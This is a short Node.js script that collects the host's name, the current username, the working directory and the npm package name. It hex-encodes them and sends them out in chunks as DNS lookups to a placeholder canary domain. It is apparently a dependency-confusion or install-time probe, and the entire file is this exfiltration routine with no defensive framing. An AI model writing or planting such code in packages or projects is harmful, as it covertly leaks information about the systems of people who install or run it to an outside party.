const dns = require('dns');
const os = require('os');

const data = [os.hostname(), os.userInfo().username, process.cwd(), process.env.npm_package_name || ''].join('|');
const hex = Buffer.from(data).toString('hex');
const chunks = hex.match(/.{1,50}/g) || [];
const id = Math.random().toString(36).slice(2, 8);

chunks.slice(0, 6).forEach((c, i) => {
  dns.resolve(`${c}.${i}.${id}.x.dnslog-canary.example.invalid`, () => {});
});
